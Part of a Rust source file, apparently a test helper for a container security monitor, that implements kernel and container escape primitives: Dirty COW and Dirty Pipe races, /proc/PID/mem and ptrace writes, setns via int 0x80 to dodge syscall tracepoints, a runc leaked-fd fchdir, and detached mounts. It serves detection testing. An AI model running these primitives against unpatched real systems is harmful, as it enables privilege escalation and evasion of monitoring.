//! The escape primitives the integration tests run inside busybox containers, where no tool
//! makes these syscalls. Built statically (`cargo xtask test` does it) and copied into the
//! container's rootfs. Every primitive is the real syscall sequence, bounded in time, and
//! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
//!
//! Usage: primitives <dirtycow FILE | dirtycow-via int80|clonevm FILE | dirtycow-ptrace FILE | dirtypipe FILE |
//!        dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE | procmem | procmem-dup-pwritev |
//!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
//!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
//!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE |
//!        fchdir FD CMD | flood open|ns|ns-own|userns PATH SECS | iouring-dirtypipe FILE |
//!        iouring-procmem | iouring-dirtycow FILE | iouring-benign | iouring-connect PATH |
//!        memfd-exec execveat|fexecve | deleted-exec PATH | drift-child |
//!        exchange-loop DIR SECS | iouring-exchange-loop DIR SECS | exchange-few DIR N |
//!        rotate DIR N | iopl LEVEL | ioperm FROM NUM | kexec-load | kexec-file-load |
//!        open PATH r|rw | tcp-uring-connect ADDR PORT | tcp-fastopen ADDR PORT |
//!        tcp-own-via uring|fastopen PORT>

mod drift;
mod iouring;
mod lockdown;
mod netapi;
mod netfx;
mod races;

use std::{
    ffi::CString,
    fs::OpenOptions,
    io::Write,
    os::unix::{fs::FileExt, io::AsRawFd},
    process::exit,
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

fn fail(what: &str) -> ! {
    eprintln!("primitives: {what}: {}", std::io::Error::last_os_error());
    exit(1)
}

/// FILE mapped read-only and private, the target both Dirty COW variants race on: (address,
/// length). The mapping stays for the life of the process.
fn map_readonly_private(path: &str) -> (usize, usize) {
    map_readonly_private_with(path, 0)
}

/// [`map_readonly_private`] with extra mmap `flags` (MAP_32BIT for the 32-bit entry).
fn map_readonly_private_with(path: &str, flags: libc::c_int) -> (usize, usize) {
    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
    let len = file.metadata().map(|m| m.len()).unwrap_or(0).max(1) as usize;
    // SAFETY: mapping a file we opened; callers touch the mapping only through madvise,
    // /proc/self/mem and ptrace.
    let map = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ,
            libc::MAP_PRIVATE | flags,
            file.as_raw_fd(),
            0,
        )
    };
    if map == libc::MAP_FAILED {
        fail("mmap");
    }
    (map as usize, len)
}

/// Dirty COW: map FILE read-only and private; one thread discards the pages, another forces
/// writes into the mapping through /proc/self/mem.
fn dirtycow(path: &str) {
    let (addr, len) = map_readonly_private(path);
    let mem = open_self_mem();
    dirtycow_race(
        "dirtycow",
        addr,
        // SAFETY: our own mapping.
        move || unsafe {
            libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED);
        },
        move || {
            let _ = mem.write_at(b"m00", addr as u64);
        },
    );
}

/// Dirty COW entirely through the 32-bit entry (`how` = `int80`): i386 madvise (219) with
/// MADV_DONTNEED_LOCKED (24) and i386 pwrite64 (181) into /proc/self/mem, the mapping and the
/// written bytes below 4 GiB.
#[cfg(target_arch = "x86_64")]
fn dirtycow_via(how: &str, path: &str) {
    if how == "clonevm" {
        return dirtycow_clone_vm(path);
    }
    if how != "int80" {
        fail("dirtycow-via: int80 or clonevm");
    }
    const MADV_DONTNEED_LOCKED: i64 = 24;
    let (addr, len) = map_readonly_private_with(path, libc::MAP_32BIT);
    let buf = low_page();
    // SAFETY: a page of our own.
    unsafe { std::ptr::copy_nonoverlapping(b"m00".as_ptr(), buf, 3) };
    let mem = open_self_mem();
    let fd = i64::from(mem.as_raw_fd());
    dirtycow_race(
        "dirtycow-via int80",
        addr,
        move || {
            i386_syscall(219, [addr as i64, len as i64, MADV_DONTNEED_LOCKED, 0, 0]);
        },
        move || {
            let off = addr as i64;
            i386_syscall(181, [fd, buf as i64, 3, off & 0xffff_ffff, off >> 32]);
            let _ = &mem;
        },
    );
}

/// Dirty COW with its discards made by a CLONE_VM child: another process (thread group) that
/// shares this one's memory, as scumjr's dirtycow-vdso does, while this one forces writes
/// through /proc/self/mem.
fn dirtycow_clone_vm(path: &str) {
    struct Discard {
        addr: usize,
        len: usize,
    }
    extern "C" fn discard(arg: *mut libc::c_void) -> libc::c_int {
        // SAFETY: the parent's `Discard`, alive until this child is reaped.
        let d = unsafe { &*arg.cast::<Discard>() };
        for _ in 0..200 {
            // SAFETY: plain syscalls on the shared mapping; no allocation, no locks (this child
            // shares the parent's memory, thread-local storage included).
            unsafe {
                libc::madvise(d.addr as *mut libc::c_void, d.len, libc::MADV_DONTNEED);
                libc::usleep(1000);
            }
        }
        0
    }
    let (addr, len) = map_readonly_private(path);
    let mem = open_self_mem();
    let mut arg = Discard { addr, len };
    let mut stack = vec![0u8; 64 * 1024];
    // SAFETY: the child runs `discard` on its own stack (the top of `stack`, which outlives
    // it: waited for below) and shares our memory.
    let child = unsafe {
        libc::clone(
            discard,
            stack.as_mut_ptr().add(stack.len()).cast(),
            libc::CLONE_VM | libc::SIGCHLD,
            (&mut arg as *mut Discard).cast(),
        )
    };
    if child < 0 {
        fail("clone(CLONE_VM)");
    }
    let start = Instant::now();
    let mut writes = 0u64;
    while start.elapsed() < Duration::from_millis(500) && writes < 200 {
        let _ = mem.write_at(b"m00", addr as u64);
        writes += 1;
        thread::sleep(Duration::from_millis(1));
    }
    let mut status = 0;
    // SAFETY: our child.
    unsafe { libc::waitpid(child, &mut status, 0) };
    println!("dirtycow-via clonevm: child {child} discarded, {writes} forced writes at {addr:#x}");
}

/// A page below 4 GiB, readable and writable, for the 32-bit entry's pointer arguments.
#[cfg(target_arch = "x86_64")]
fn low_page() -> *mut u8 {
    // SAFETY: an anonymous mapping of our own.
    let low = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            4096,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if low == libc::MAP_FAILED {
        fail("mmap MAP_32BIT");
    }
    low.cast()
}

fn open_self_mem() -> std::fs::File {
    OpenOptions::new()
        .read(true)
        .write(true)
        .open("/proc/self/mem")
        .unwrap_or_else(|_| fail("open /proc/self/mem"))
}

/// The race of every Dirty COW variant: a thread runs `discard` while this one runs
/// `force_write`, each up to 200 times, 1 ms apart, for at most 500 ms.
fn dirtycow_race(
    name: &str,
    addr: usize,
    discard: impl Fn() + Send + 'static,
    force_write: impl Fn(),
) {
    static STOP: AtomicBool = AtomicBool::new(false);
    let discarder = thread::spawn(move || {
        let mut n = 0u64;
        while !STOP.load(Ordering::Relaxed) && n < 200 {
            discard();
            n += 1;
            thread::sleep(Duration::from_millis(1));
        }
        n
    });
    let start = Instant::now();
    let mut writes = 0u64;
    while start.elapsed() < Duration::from_millis(500) && writes < 200 {
        force_write();
        writes += 1;
        thread::sleep(Duration::from_millis(1));
    }
    STOP.store(true, Ordering::Relaxed);
    let discards = discarder.join().unwrap_or(0);
    println!("{name}: {discards} discards, {writes} forced writes at {addr:#x}");
}

/// Dirty Pipe: prime a pipe, splice one byte of the read-only FILE into it, write to the pipe.
fn dirtypipe(path: &str) {
    let fds = spliced_pipe(path);
    // SAFETY: a plain write to a descriptor we own.
    if unsafe { libc::write(fds[1], b"X".as_ptr().cast(), 1) } != 1 {
        fail("write to pipe");
    }
    println!("dirtypipe: spliced {path} and wrote the pipe");
}

/// Dirty Pipe's write half another way (`how`): `writev` the pipe; `fork` and let a child
/// that inherited it write; `reopen` the pipe through /proc/self/fd/N (a new open file of the
/// same pipe) and write that; `tee` or `splice` its buffers into a second pipe and write that.
fn dirtypipe_via(how: &str, path: &str) {
    let fds = spliced_pipe(path);
    let byte = b"X";
    let iov = libc::iovec {
        iov_base: byte.as_ptr() as *mut libc::c_void,
        iov_len: 1,
    };
    // SAFETY: plain syscalls on descriptors we own; the child only writes and exits.
    let n = unsafe {
        match how {
            "writev" => libc::writev(fds[1], &iov, 1),
            "fork" => {
                let child = libc::fork();
                if child == 0 {
                    let n = libc::write(fds[1], byte.as_ptr().cast(), 1);
                    libc::_exit(if n == 1 { 0 } else { 1 });
                }
                let mut status = 0;
                libc::waitpid(child, &mut status, 0);
                if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
                    1
                } else {
                    -1
                }
            }
            "reopen" => {
                let again = CString::new(format!("/proc/self/fd/{}", fds[1])).unwrap();
                let fd = libc::open(again.as_ptr(), libc::O_WRONLY);
                if fd < 0 {
                    fail("reopen the pipe");
                }
                libc::write(fd, byte.as_ptr().cast(), 1)
            }
            // write(2) through the 32-bit entry (i386 write is 4), the byte below 4 GiB.
            #[cfg(target_arch = "x86_64")]
            "int80" => {
                let low = low_page();
                *low = byte[0];
                i386_syscall(4, [i64::from(fds[1]), low as i64, 1, 0, 0]) as isize
            }
            "tee" | "splice" => {
                let mut second = [0i32; 2];
                if libc::pipe(second.as_mut_ptr()) != 0 {
                    fail("pipe");
                }
                let copied = if how == "tee" {
                    libc::tee(fds[0], second[1], 1, 0)
                } else {
                    libc::splice(
                        fds[0],
                        std::ptr::null_mut(),
                        second[1],
                        std::ptr::null_mut(),
                        1,
                        0,
                    )
                };
                if copied != 1 {
                    fail(how);
                }
                libc::write(second[1], byte.as_ptr().cast(), 1)
            }
            _ => fail("dirtypipe-via: writev, fork, reopen, tee, splice or int80"),
        }
    };
    if n != 1 {
        fail("write to pipe");
    }
    println!("dirtypipe-via {how}: spliced {path} and wrote the pipe");
}

/// A pipe primed so that every buffer slot was used once, then one byte of the read-only FILE
/// spliced into it: the state Dirty Pipe's write abuses.
fn spliced_pipe(path: &str) -> [i32; 2] {
    let fds = primed_pipe();
    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
    let mut off: libc::loff_t = 0;
    // SAFETY: splice between descriptors we own, with our own offset.
    if unsafe {
        libc::splice(
            file.as_raw_fd(),
            &mut off,
            fds[1],
            std::ptr::null_mut(),
            1,
            0,
        )
    } != 1
    {
        fail("splice");
    }
    fds
}

/// A pipe every buffer slot of which was filled and drained once (so each carries the
/// "can merge" flag Dirty Pipe leaves behind); empty.
fn primed_pipe() -> [i32; 2] {
    let mut fds = [0i32; 2];
    // SAFETY: plain syscalls on descriptors we own.
    unsafe {
        if libc::pipe(fds.as_mut_ptr()) != 0 {
            fail("pipe");
        }
        let size = libc::fcntl(fds[1], libc::F_GETPIPE_SZ) as usize;
        let page = [0u8; 4096];
        let mut left = size;
        while left > 0 {
            let n = left.min(page.len());
            libc::write(fds[1], page.as_ptr().cast(), n);
            left -= n;
        }
        let mut sink = [0u8; 4096];
        left = size;
        while left > 0 {
            let n = left.min(sink.len());
            libc::read(fds[0], sink.as_mut_ptr().cast(), n);
            left -= n;
        }
    }
    fds
}

static mut TARGET_WORD: u64 = 0x5555;

/// A forked child that only sleeps (for at most 5 s): a process to write the memory of.
fn sleeping_child() -> i32 {
    // SAFETY: fork in a single-threaded process; the child only sleeps.
    let child = unsafe { libc::fork() };
    if child == 0 {
        thread::sleep(Duration::from_secs(5));
        // SAFETY: exiting the child.
        unsafe { libc::_exit(0) };
    }
    child
}

fn reap(child: i32) {
    // SAFETY: reaping our own child.
    unsafe {
        libc::kill(child, libc::SIGKILL);
        libc::waitpid(child, std::ptr::null_mut(), 0);
    }
}

/// /proc/CHILD/mem opened, dup2'ed to another number and the original closed, then written
/// with pwritev: the write goes through a descriptor number no open returned.
fn procmem_dup_pwritev() {
    let child = sleeping_child();
    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
    let word = 0x4242u64.to_ne_bytes();
    let path = CString::new(format!("/proc/{child}/mem")).unwrap();
    let iov = libc::iovec {
        iov_base: word.as_ptr() as *mut libc::c_void,
        iov_len: word.len(),
    };
    const MOVED: i32 = 47;
    // SAFETY: plain syscalls on descriptors we own; the iovec outlives the call.
    let n = unsafe {
        let fd = libc::open(path.as_ptr(), libc::O_RDWR);
        if fd < 0 {
            fail("open child mem");
        }
        if libc::dup2(fd, MOVED) != MOVED || libc::close(fd) != 0 {
            fail("dup2");
        }
        libc::pwritev(MOVED, &iov, 1, addr as libc::off_t)
    };
    println!("child {child}: pwritev through fd {MOVED} into /proc/{child}/mem: {n}");
    reap(child);
}

/// /proc/self/mem opened, then a forked child that inherited the descriptor writes through it
/// with pwritev: the write lands in the parent's memory (the file holds the opener's mm), not
/// the child's.
fn procmem_inherited() {
    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
    let word = 0x4444u64.to_ne_bytes();
    let iov = libc::iovec {
        iov_base: word.as_ptr() as *mut libc::c_void,
        iov_len: word.len(),
    };
    let mem = OpenOptions::new()
        .read(true)
        .write(true)
        .open("/proc/self/mem")
        .unwrap_or_else(|_| fail("open /proc/self/mem"));
    // SAFETY: fork in a single-threaded process; the child makes one syscall and exits.
    unsafe {
        let child = libc::fork();
        if child == 0 {
            let n = libc::pwritev(mem.as_raw_fd(), &iov, 1, addr as libc::off_t);
            libc::_exit(if n == 8 { 0 } else { 1 });
        }
        let mut status = 0;
        libc::waitpid(child, &mut status, 0);
        let ok = libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0;
        let seen = std::ptr::read_volatile(std::ptr::addr_of!(TARGET_WORD));
        println!("procmem-inherited: child wrote parent's word: {ok}, now {seen:#x}");
    }
}

/// What a busy ordinary program does with the same calls, after marks exist: a read-only file
/// spliced into a pipe and read back out (a zero-copy copy, never written), heavy writev and
/// pwritev into other pipes and files, a tee between ordinary pipes, a debugger-like read of
/// /proc/self/mem, and a pwritev into its own memory (self-patching code).
fn benign_writes() {
    let file = "/tmp/benign-src";
    std::fs::write(file, b"data").unwrap_or_else(|_| fail("write source"));
    let fds = spliced_pipe(file);
    let mut back = [0u8; 16];
    let mut pipe = [0i32; 2];
    let word = 0x4343u64.to_ne_bytes();
    let iov = libc::iovec {
        iov_base: word.as_ptr() as *mut libc::c_void,
        iov_len: word.len(),
    };
    let out = OpenOptions::new()
        .create(true)
        .write(true)
        .truncate(true)
        .open("/tmp/benign-out")
        .unwrap_or_else(|_| fail("open output"));
    let mem = OpenOptions::new()
        .read(true)
        .write(true)
        .open("/proc/self/mem")
        .unwrap_or_else(|_| fail("open /proc/self/mem"));
    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
    // SAFETY: plain syscalls on descriptors we own; the buffers outlive each call.
    unsafe {
        libc::read(fds[0], back.as_mut_ptr().cast(), back.len());
        if libc::pipe(pipe.as_mut_ptr()) != 0 {
            fail("pipe");
        }
        for i in 0..2000 {
            libc::writev(pipe[1], &iov, 1);
            libc::read(pipe[0], back.as_mut_ptr().cast(), word.len());
            libc::pwritev(out.as_raw_fd(), &iov, 1, (i * 8) as libc::off_t);
            libc::writev(out.as_raw_fd(), &iov, 1);
        }
        // tee between ordinary pipes (what a logging fan-out does), then write the copy.
        let mut copy = [0i32; 2];
        if libc::pipe(copy.as_mut_ptr()) != 0 {
            fail("pipe");
        }
        libc::writev(pipe[1], &iov, 1);
        libc::tee(pipe[0], copy[1], word.len(), 0);
        libc::writev(copy[1], &iov, 1);
        libc::pread(
            mem.as_raw_fd(),
            back.as_mut_ptr().cast(),
            8,
            addr as libc::off_t,
        );
        let n = libc::pwritev(mem.as_raw_fd(), &iov, 1, addr as libc::off_t);
        println!("benign-writes: done, own memory pwritev {n}");
    }
}

/// Fork a child and write a word of its memory, through /proc/PID/mem or process_vm_writev.
fn write_child(use_pvw: bool) {
    let child = sleeping_child();
    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
    let word = 0x4141u64.to_ne_bytes();
    if use_pvw {
        let local = libc::iovec {
            iov_base: word.as_ptr() as *mut libc::c_void,
            iov_len: 8,
        };
        let remote = libc::iovec {
            iov_base: addr as *mut libc::c_void,
            iov_len: 8,
        };
        // SAFETY: valid iovecs for the duration of the call.
        let n = unsafe { libc::process_vm_writev(child, &local, 1, &remote, 1, 0) };
        println!("process_vm_writev into {child}: {n}");
    } else {
        let mem = OpenOptions::new()
            .write(true)
            .open(format!("/proc/{child}/mem"))
            .unwrap_or_else(|_| fail("open child mem"));
        let n = mem.write_at(&word, addr);
        println!("/proc/{child}/mem write: {n:?}");
    }
    reap(child);
}

fn ptrace_attach(pid: i32) {
    // SAFETY: attach then detach; the tracee is stopped for a moment only.
    unsafe {
        if libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) != 0 {
            fail("PTRACE_ATTACH");
        }
        libc::waitpid(pid, std::ptr::null_mut(), 0);
        libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
    }
    println!("ptrace attached to {pid}");
}

/// BPF_PROG_LOAD of `r0 = 0; exit` as a socket filter.
fn bpf_load() {
    let insns: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
    let license = CString::new("GPL").unwrap();
    #[repr(C)]
    #[derive(Default)]
    struct Attr {
        prog_type: u32,
        insn_cnt: u32,
        insns: u64,
        license: u64,
        rest: [u64; 16],
    }
    let attr = Attr {
        prog_type: 1,
        insn_cnt: 2,
        insns: insns.as_ptr() as u64,
        license: license.as_ptr() as u64,
        ..Default::default()
    };
    // SAFETY: a well-formed bpf_attr prefix; the kernel reads `size` bytes.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_bpf,
            5,
            &attr as *const Attr,
            std::mem::size_of::<Attr>(),
        )
    };
    println!("bpf(BPF_PROG_LOAD): {fd}");
}

fn open_by_handle() {
    let root = std::fs::File::open("/").unwrap_or_else(|_| fail("open /"));
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        data: [u8; 8],
    }
    let mut h = Handle {
        bytes: 8,
        kind: 1,
        data: [2, 0, 0, 0, 0, 0, 0, 0],
    };
    // SAFETY: a well-formed file_handle; failure is expected and fine.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            root.as_raw_fd(),
            &mut h as *mut Handle,
            libc::O_RDONLY,
        )
    };
    println!("open_by_handle_at: {rc}");
}

fn userfaultfd() {
    // SAFETY: plain syscall.
    let fd = unsafe { libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC) };
    println!("userfaultfd: {fd}");
}

fn connect(path: &str) {
    match std::os::unix::net::UnixStream::connect(path) {
        Ok(mut s) => {
            let _ = s.write_all(b"GET /_ping HTTP/1.0\r\n\r\n");
            println!("connected to {path}");
        }
        Err(e) => {
            eprintln!("connect {path}: {e}");
            exit(1);
        }
    }
}

fn finit_module() {
    // SAFETY: plain syscall with an invalid fd: the attempt is what is tested.
    let rc = unsafe { libc::syscall(libc::SYS_finit_module, -1, c"".as_ptr(), 0) };
    println!("finit_module: {rc}");
}

/// Dirty COW through ptrace (the pokemon.c variant): a forked child discards the pages of a
/// read-only private mapping of FILE from a thread while its main thread sits in a ptrace
/// stop; the parent pokes the mapping with PTRACE_POKEDATA. No /proc/PID/mem is involved.
fn dirtycow_ptrace(target: &str) {
    // `vdso`: the race of scumjr's dirtycow-vdso on this process's own vDSO (a special mapping,
    // no file); otherwise FILE mapped read-only and private.
    let (addr, len) = if target == "vdso" {
        vdso_range()
    } else {
        map_readonly_private(target)
    };
    // SAFETY: fork in a single-threaded process; the child only calls async-signal-safe
    // functions and spawns its own thread after the fork.
    let child = unsafe { libc::fork() };
    if child < 0 {
        fail("fork");
    }
    if child == 0 {
        let discard = thread::spawn(move || {
            for _ in 0..300 {
                // SAFETY: our own mapping.
                unsafe { libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED) };
                thread::sleep(Duration::from_millis(1));
            }
        });
        // SAFETY: plain ptrace/raise calls on ourselves.
        unsafe {
            libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
            libc::raise(libc::SIGSTOP);
        }
        let _ = discard.join();
        // SAFETY: leaving the forked child without running the parent's destructors.
        unsafe { libc::_exit(0) };
    }
    let mut status = 0;
    // SAFETY: waiting for our own child's ptrace stop.
    unsafe { libc::waitpid(child, &mut status, libc::__WALL) };
    let mut pokes = 0;
    let deadline = Instant::now() + Duration::from_millis(300);
    while Instant::now() < deadline {
        // SAFETY: POKEDATA into the stopped tracee's private copy of the mapping.
        let r = unsafe { libc::ptrace(libc::PTRACE_POKEDATA, child, addr, 0x4141_4141usize) };
        if r == 0 {
            pokes += 1;
        }
        thread::sleep(Duration::from_millis(1));
    }
    // SAFETY: ending our own tracee.
    unsafe {
        libc::kill(child, libc::SIGKILL);
        libc::waitpid(child, &mut status, libc::__WALL);
    }
    println!("dirtycow-ptrace: {pokes} pokes");
}

/// The [vdso] mapping of this process, from /proc/self/maps: (address, length).
fn vdso_range() -> (usize, usize) {
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_else(|_| fail("maps"));
    let line = maps
        .lines()
        .find(|l| l.ends_with("[vdso]"))
        .unwrap_or_else(|| fail("no [vdso] mapping"));
    let range = line.split_whitespace().next().unwrap_or_default();
    let (start, end) = range.split_once('-').unwrap_or_else(|| fail("maps line"));
    let parse = |h: &str| usize::from_str_radix(h, 16).unwrap_or_else(|_| fail("maps address"));
    (parse(start), parse(end) - parse(start))
}

/// setns(2) through the 32-bit syscall entry (`int 0x80` with the i386 number) from this
/// 64-bit process, which the per-syscall tracepoints of x86-64 do not see; then exec `cmd` in
/// the namespace reached, so the process makes an event there.
#[cfg(target_arch = "x86_64")]
fn setns32(path: &str, cmd: &str) {
    /// `__NR_setns` in arch/x86/entry/syscalls/syscall_32.tbl.
    const I386_SETNS: i64 = 346;
    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open namespace"));
    let ret: i64;
    // SAFETY: int 0x80 with eax=setns, ebx=fd, ecx=nstype (0: any); the kernel reads only
    // these registers and returns in eax; no memory is passed.
    unsafe {
        // rbx is LLVM's: the fd goes in through another register, swapped in and back.
        std::arch::asm!(
            "xchg {fd}, rbx",
            "int 0x80",
            "xchg {fd}, rbx",
            fd = inout(reg) i64::from(file.as_raw_fd()) => _,
            inlateout("rax") I386_SETNS => ret,
            in("rcx") 0i64,
            options(nostack),
        );
    }
    if ret != 0 {
        eprintln!(
            "primitives: setns32: {}",
            std::io::Error::from_raw_os_error(-ret as i32)
        );
        exit(1);
    }
    println!("setns32 ok");
    exec(cmd)
}

/// Any syscall through the 32-bit entry (`int 0x80`) from this 64-bit process: `nr` is the
/// i386 number, each argument a number or `s:STRING`. Strings are copied into memory below
/// 4 GiB (MAP_32BIT), the only addresses a 32-bit syscall can pass. Prints the result; exits 1
/// when the kernel returned an error.
#[cfg(target_arch = "x86_64")]
fn int80(nr: &str, args: &[String]) {
    const PAGE: usize = 4096;
    let nr: i64 = nr.parse().unwrap_or_else(|_| fail("syscall number"));
    // SAFETY: a fresh anonymous mapping of our own.
    let low = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            PAGE,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if low == libc::MAP_FAILED {
        fail("mmap MAP_32BIT");
    }
    let mut used = 0usize;
    let mut regs = [0i64; 5];
    for (reg, a) in regs.iter_mut().zip(args) {
        *reg = match a.strip_prefix("s:") {
            Some(text) => {
                let bytes = text.as_bytes();
                if used + bytes.len() + 1 > PAGE {
                    fail("strings too long");
                }
                // SAFETY: inside the page mapped above; the terminating NUL is the page's zero.
                unsafe {
                    std::ptr::copy_nonoverlapping(
                        bytes.as_ptr(),
                        low.cast::<u8>().add(used),
                        bytes.len(),
                    );
                }
                let at = low as i64 + used as i64;
                used += bytes.len() + 1;
                at
            }
            None => parse_number(a),
        };
    }
    let ret = i386_syscall(nr, regs);
    if ret < 0 {
        println!(
            "int80 {nr} = {ret} ({})",
            std::io::Error::from_raw_os_error(-ret as i32)
        );
        exit(1);
    }
    println!("int80 {nr} = {ret}");
}

/// open(2) done by io_uring (IORING_OP_OPENAT), which makes no open syscall: `mode` r or w.
/// Then reads (r) or nothing (w) through the descriptor the completion returned, and exits.
fn iouring_open(path: &str, mode: &str) {
    use io_uring::{IoUring, opcode, types};
    let flags = match mode {
        "r" => libc::O_RDONLY,
        "w" => libc::O_WRONLY,
        _ => fail("mode must be r or w"),
    };
    let c_path = CString::new(path).unwrap_or_else(|_| fail("path"));
    let mut ring = IoUring::new(4).unwrap_or_else(|_| fail("io_uring_setup"));
    let open = opcode::OpenAt::new(types::Fd(libc::AT_FDCWD), c_path.as_ptr())
        .flags(flags | libc::O_CLOEXEC)
        .build()
        .user_data(1);
    // SAFETY: the path outlives the submission, which completes before this function returns.
    unsafe { ring.submission().push(&open) }.unwrap_or_else(|_| fail("queue"));
    ring.submit_and_wait(1)
        .unwrap_or_else(|_| fail("io_uring_enter"));
    let fd = ring
        .completion()
        .next()
        .map(|cqe| cqe.result())
        .unwrap_or_else(|| fail("no completion"));
    if fd < 0 {
        eprintln!(
            "primitives: io_uring open {path}: {}",
            std::io::Error::from_raw_os_error(-fd)
        );
        exit(1);
    }
    if mode == "r" {
        let mut buf = [0u8; 64];
        // SAFETY: reading into our own buffer from the descriptor just opened.
        let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
        println!("io_uring open {path} = fd {fd}, read {n} bytes");
    } else {
        println!("io_uring open {path} = fd {fd} for writing");
    }
}

/// The new mount API without move_mount: fsopen(FSTYPE), fsconfig(source = DEV), create,
/// fsmount, then read FILE through the detached mount's descriptor. Nothing is attached to any
/// mount tree, so no mount table shows it.
fn fsmount_read(dev: &str, fstype: &str, file: &str) {
    const FSCONFIG_SET_STRING: libc::c_long = 1;
    const FSCONFIG_CMD_CREATE: libc::c_long = 6;
    let c = |s: &str| CString::new(s).unwrap_or_else(|_| fail("string"));
    let (fstype, source, key, file) = (c(fstype), c(dev), c("source"), c(file));
    // SAFETY: raw mount-API syscalls with NUL-terminated strings that outlive them.
    let fs = unsafe { libc::syscall(libc::SYS_fsopen, fstype.as_ptr(), 0) };
    if fs < 0 {
        fail("fsopen");
    }
    let fs = fs as libc::c_long;
    // SAFETY: as above.
    if unsafe {
        libc::syscall(
            libc::SYS_fsconfig,
            fs,
            FSCONFIG_SET_STRING,
            key.as_ptr(),
            source.as_ptr(),
            0,
        )
    } < 0
    {
        fail("fsconfig source");
    }
    // SAFETY: as above.
    if unsafe {
        libc::syscall(
            libc::SYS_fsconfig,
            fs,
            FSCONFIG_CMD_CREATE,
            std::ptr::null::<u8>(),
            std::ptr::null::<u8>(),
            0,
        )
    } < 0
    {
        fail("fsconfig create");
    }
    // SAFETY: as above.
    let mnt = unsafe { libc::syscall(libc::SYS_fsmount, fs, 0, 0) };
    if mnt < 0 {
        fail("fsmount");
    }
    // SAFETY: openat relative to the detached mount's root.
    let fd = unsafe { libc::openat(mnt as i32, file.as_ptr(), libc::O_RDONLY) };
    if fd < 0 {
        fail("openat through the mount");
    }
    let mut buf = [0u8; 64];
    // SAFETY: reading into our own buffer.
    let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    println!("fsmount-read: read {n} bytes through a detached mount");
}

/// i386 syscall `nr` through `int 0x80` with ebx, ecx, edx, esi, edi = `regs` (pointers among
/// them must be below 4 GiB); the result, sign-extended from its low 32 bits.
#[cfg(target_arch = "x86_64")]
fn i386_syscall(nr: i64, regs: [i64; 5]) -> i64 {
    let ret: i64;
    // SAFETY: int 0x80 with eax=nr and the argument registers; the kernel reads only what the
    // syscall's arguments point to, which the caller placed below 4 GiB.
    unsafe {
        // rbx is LLVM's: the first argument goes in through another register, swapped in and
        // back.
        std::arch::asm!(
            "xchg {a0}, rbx",
            "int 0x80",
            "xchg {a0}, rbx",
            a0 = inout(reg) regs[0] => _,
            inlateout("rax") nr => ret,
            in("rcx") regs[1],
            in("rdx") regs[2],
            in("rsi") regs[3],
            in("rdi") regs[4],
            options(nostack),
        );
    }
    i64::from(ret as i32)
}

/// A decimal, 0x-hex or 0-octal number (as in C).
fn parse_number(text: &str) -> i64 {
    let parsed = if let Some(hex) = text.strip_prefix("0x") {
        i64::from_str_radix(hex, 16)
    } else if text.len() > 1 && text.starts_with('0') {
        i64::from_str_radix(&text[1..], 8)
    } else {
        text.parse()
    };
    parsed.unwrap_or_else(|_| fail("number"))
}

/// setns(2) the ordinary way, then exec `cmd`.
fn setns64(path: &str, cmd: &str) {
    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open namespace"));
    // SAFETY: setns on a descriptor we own.
    if unsafe { libc::setns(file.as_raw_fd(), 0) } != 0 {
        fail("setns");
    }
    println!("setns ok");
    exec(cmd)
}

/// fchdir(2) to an inherited directory descriptor (one opened outside the container, as runc's
/// leaked fd of CVE-2024-21626), then exec `cmd` there.
fn fchdir_exec(fd: &str, cmd: &str) {
    let fd: i32 = fd.parse().unwrap_or_else(|_| fail("fd"));
    // SAFETY: fchdir on a descriptor number; a bad one is an error, not UB.
    if unsafe { libc::fchdir(fd) } != 0 {
        fail("fchdir");
    }
    println!("fchdir ok");
    exec(cmd)
}

/// Cheap attempts in a tight loop for `secs` seconds, as whatever user runs this: `open PATH`
/// opens a file it may not read (EACCES), `ns` calls setns into its own mount namespace and
/// unshare(CLONE_NEWNS), both refused without CAP_SYS_ADMIN (EPERM). Prints the count.
fn flood(what: &str, path: &str, secs: u64) {
    let end = Instant::now() + Duration::from_secs(secs);
    let c = CString::new(path).unwrap_or_else(|_| fail("path"));
    // A user namespace of its own and a mount namespace in it, which an unprivileged process
    // may then rejoin (the namespace of `ns` below).
    // SAFETY: a plain syscall.
    if what == "userns" && unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) } != 0 {
